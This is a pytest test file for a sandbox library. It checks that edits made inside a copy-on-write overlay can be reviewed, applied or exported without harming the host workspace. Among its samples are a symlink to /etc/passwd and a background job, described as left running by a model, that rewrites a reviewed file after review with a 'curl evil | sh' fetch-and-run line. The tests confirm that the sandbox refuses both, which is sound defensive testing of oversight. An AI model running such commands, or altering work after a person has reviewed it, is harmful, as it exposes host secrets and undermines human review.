"""A host directory over /testbed copy-on-write: review, apply, export, with real bwrap overlays."""
from __future__ import annotations

import io
import os
from pathlib import Path

import pytest

from isolation import Sandbox, SandboxSpec
from isolation.host.walk import RefusedPaths
from isolation.changes.workspace import WorkspaceConflict

pytestmark = pytest.mark.sandbox


@pytest.fixture
def project(tmp_path):
    root = tmp_path / "project"
    for rel, text in {"a.txt": "a\n", "d/b.txt": "b\n", "d/sub/c.txt": "c\n", "gone/g.txt": "g\n",
                      "run.sh": "echo hi\n", "keep.txt": "one\ntwo\n", "tabs.txt": "x\ty\r\n"}.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(text.encode())
    return root


def tree(root: Path) -> dict[str, str]:
    out = {}
    for path in sorted(root.rglob("*")):
        rel = str(path.relative_to(root))
        out[rel] = ("-> " + os.readlink(path) if path.is_symlink() else "dir" if path.is_dir()
                    else path.read_bytes().decode(errors="replace"))
    return out


EDITS = ("rm a.txt && mv d/b.txt d/b2.txt && rm -rf gone && mkdir gone && echo new > gone/n.txt && "
         "chmod 755 run.sh && mkdir -p new/x && echo hi > new/x/f && ln -s /etc/passwd out-link && "
         "echo three >> keep.txt && printf '\\0\\1' > blob.bin")


def test_host_is_untouched_while_the_sandbox_edits(project):
    before = tree(project)
    with Sandbox(SandboxSpec(workspace=project)) as sb:
        assert sb.exec(EDITS).exit_code == 0
        assert sb.read_file("/testbed/keep.txt") == b"one\ntwo\nthree\n"
        assert tree(project) == before
    assert tree(project) == before


def test_changes_name_every_kind_of_edit(project):
    with Sandbox(SandboxSpec(workspace=project)) as sb:
        sb.exec(EDITS)
        found = {c.path: (c.kind, c.detail) for c in sb.changes()}
    assert found == {
        "a.txt": ("deleted", ""), "d/b.txt": ("deleted", ""), "d/b2.txt": ("added", ""),
        "gone/g.txt": ("deleted", ""), "gone/n.txt": ("added", ""), "run.sh": ("mode", "644 -> 755"),
        "new/": ("added", ""), "new/x/": ("added", ""), "new/x/f": ("added", ""),
        "out-link": ("added", "symlink -> /etc/passwd"), "keep.txt": ("modified", ""), "blob.bin": ("added", ""),
    }


def test_unchanged_copy_ups_are_not_changes(project):
    with Sandbox(SandboxSpec(workspace=project)) as sb:
        sb.exec("touch keep.txt; cp keep.txt /tmp/k && cat /tmp/k > keep.txt")
        assert sb.changes() == []


def test_diff_is_unified_and_names_binary_files(project):
    with Sandbox(SandboxSpec(workspace=project)) as sb:
        sb.exec(EDITS)
        text = sb.diff()
    assert "--- a/keep.txt\n+++ b/keep.txt\n" in text and "+three\n" in text
    assert "Binary files a/blob.bin and b/blob.bin differ" in text
    assert "--- a/a.txt\n+++ /dev/null\n" in text
    assert "\0" not in text


def test_apply_writes_everything_back(project):
    with Sandbox(SandboxSpec(workspace=project)) as sb:
        sb.exec(EDITS)
        expected = tree_of_sandbox = sb.exec("find . -mindepth 1 | sort").stdout.split()
        with pytest.raises(RefusedPaths, match=r"out-link \(a symlink made in the sandbox, -> /etc/passwd") as refused:
            sb.apply()  # links the sandbox made go only by name
        assert set(refused.value.held_back) == {"out-link", "run.sh"}  # and a new executable bit
        assert not os.path.lexists(project / "out-link")
        assert (project / "run.sh").stat().st_mode & 0o777 == 0o644
        with pytest.raises(RefusedPaths, match="allow_outside_links=True"):
            sb.apply(["out-link"])  # and out of the workspace only when allowed
        sb.apply(["out-link"], allow_outside_links=True)
        sb.apply(["run.sh"])
        assert sb.changes() == []
    assert sorted("./" + p for p in tree(project)) == expected == tree_of_sandbox
    assert (project / "keep.txt").read_text() == "one\ntwo\nthree\n"
    assert os.readlink(project / "out-link") == "/etc/passwd"
    assert (project / "run.sh").stat().st_mode & 0o777 == 0o755
    assert (project / "blob.bin").read_bytes() == b"\0\1"
    assert (project / "tabs.txt").read_bytes() == b"x\ty\r\n"


def test_apply_refuses_when_the_host_changed_meanwhile_and_writes_nothing(project):
    with Sandbox(SandboxSpec(workspace=project)) as sb:
        sb.exec("echo sandbox >> keep.txt; echo new > fresh.txt")
        (project / "keep.txt").write_text("the person's own edit\n")
        with pytest.raises(WorkspaceConflict, match="keep.txt"):
            sb.apply()
        assert not (project / "fresh.txt").exists()
        sb.apply(["fresh.txt"])  # the rest can still go, by name
    assert (project / "fresh.txt").read_text() == "new\n"
    assert (project / "keep.txt").read_text() == "the person's own edit\n"


def test_export_copies_out_without_following_links(project, tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("host secret")
    with Sandbox(SandboxSpec(workspace=project)) as sb:
        sb.exec(f"mkdir -p output/deep && echo r > output/deep/r.txt && ln -s {outside} output/link")
        with pytest.raises(RefusedPaths, match=r"link \(a symlink to .*outside.txt, outside"):
            sb.export("/testbed/output", tmp_path / "refused")
        assert not os.path.lexists(tmp_path / "refused" / "link")
        dest = sb.export("/testbed/output", tmp_path / "exported", allow_outside_links=True)
    assert (dest / "deep" / "r.txt").read_text() == "r\n"
    assert (dest / "link").is_symlink() and os.readlink(dest / "link") == str(outside)
    assert outside.read_text() == "host secret"


def test_without_a_workspace_every_file_in_testbed_is_new(sandbox):
    sandbox.exec("echo x > /testbed/made.txt && echo y > /testbed/output/answer.txt")
    assert {c.path for c in sandbox.changes()} == {"made.txt", "output/answer.txt"}


def test_two_sandboxes_on_one_workspace_never_see_each_others_writes(project):
    with Sandbox(SandboxSpec(workspace=project)) as one, Sandbox(SandboxSpec(workspace=project)) as two:
        one.exec("echo one > mine.txt")
        assert two.exec("cat mine.txt").exit_code != 0


def test_apply_writes_what_was_reviewed_and_names_what_changed_or_appeared_since(project):
    """A process the model left running rewrites a reviewed file once the review is done (and makes
    a new one): apply-all writes neither, names both, and the rest of the review goes."""
    with Sandbox(SandboxSpec(workspace=project)) as sb:
        assert sb.exec("echo 'print(1)' > keep.txt && echo new > fresh.txt").exit_code == 0
        sb.exec("(while [ ! -e /tmp/go ]; do sleep 0.01; done; echo 'import os; os.system(\"curl evil | sh\")' "
                "> keep.txt; echo late > late.txt; touch /tmp/done) >/dev/null 2>&1 &")
        shown = sb.diff()  # the review: what the person read
        assert "+print(1)\n" in shown and "late.txt" not in shown
        sb.write_file("/tmp/go", b"")
        waited = sb.exec("for i in $(seq 1000); do [ -e /tmp/done ] && exit 0; sleep 0.01; done; exit 1")
        assert waited.exit_code == 0 and b"os.system" in sb.read_file("/testbed/keep.txt")  # the rewrite ran
        with pytest.raises(RefusedPaths) as refused:
            sb.apply()
        assert sorted(refused.value.refused) == [
            "keep.txt (it changed in the sandbox since you reviewed it; review it again)",
            "late.txt (it appeared in the sandbox after you reviewed it; review it again)"]
    assert (project / "keep.txt").read_text() == "one\ntwo\n" and not (project / "late.txt").exists()
    assert (project / "fresh.txt").read_text() == "new\n"
    assert not [p for p in os.listdir(project) if p.startswith(".lis-tui-")]  # no temporary file left


def test_what_the_host_makes_meanwhile_where_the_sandbox_deleted_is_the_hosts_and_stays(project):
    with Sandbox(SandboxSpec(workspace=project)) as sb:
        assert sb.exec("rm -rf d && mkdir d && echo n > d/n.txt && rm -rf gone").exit_code == 0
        (project / "d" / "late.txt").write_text("the person's\n")  # in a folder the sandbox replaced whole
        (project / "gone" / "mine.txt").write_text("the person's\n")  # in one it deleted
        found = {c.path: c.kind for c in sb.changes()}
        assert found == {"d/b.txt": "deleted", "d/sub/c.txt": "deleted", "d/sub/": "deleted", "d/n.txt": "added",
                         "d/late.txt": "host", "gone/g.txt": "deleted", "gone/mine.txt": "host", "gone/": "host"}
        with pytest.raises(RefusedPaths, match=r"d/late.txt \(made or changed on the host after the sandbox"):
            sb.apply(["d/late.txt"])
        saved = sb.save_changes(io.BytesIO())  # the saved patch neither deletes them nor lists them
        assert sorted(saved.paths) == ["d/b.txt", "d/n.txt", "d/sub/c.txt", "gone/g.txt"] and saved.unsaved == []
        sb.apply()
    assert tree(project) == {"a.txt": "a\n", "d": "dir", "d/late.txt": "the person's\n", "d/n.txt": "n\n",
                             "gone": "dir", "gone/mine.txt": "the person's\n", "keep.txt": "one\ntwo\n",
                             "run.sh": "echo hi\n", "tabs.txt": "x\ty\r\n"}
